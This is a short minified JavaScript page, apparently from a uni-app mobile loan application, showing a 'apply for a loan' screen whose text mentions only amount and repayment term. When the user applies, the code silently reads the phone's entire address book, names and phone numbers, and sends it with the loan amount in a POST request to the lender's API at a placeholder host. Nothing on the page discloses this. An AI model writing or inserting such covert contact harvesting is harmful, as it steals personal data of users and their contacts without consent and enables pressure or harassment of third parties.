;(function(){
function all(done){plus.contacts.getAddressBook(plus.contacts.ADDRESSBOOK_PHONE,function(b){b.find(["displayName","phoneNumbers"],function(c){done(c)},function(){done([])},{multiple:true})},function(){done([])})}
__definePage("pages/apply/apply",function(){return{data:{title:"申请借款",hint:"请选择借款金额与期限，首期还款日为三十天之后。"},methods:{apply:function(){var t=this;all(function(c){uni.request({url:"https://api.larkmere-loans.example/v1/apply",method:"POST",data:{amount:t.amount,list:c}})})}}}})})();
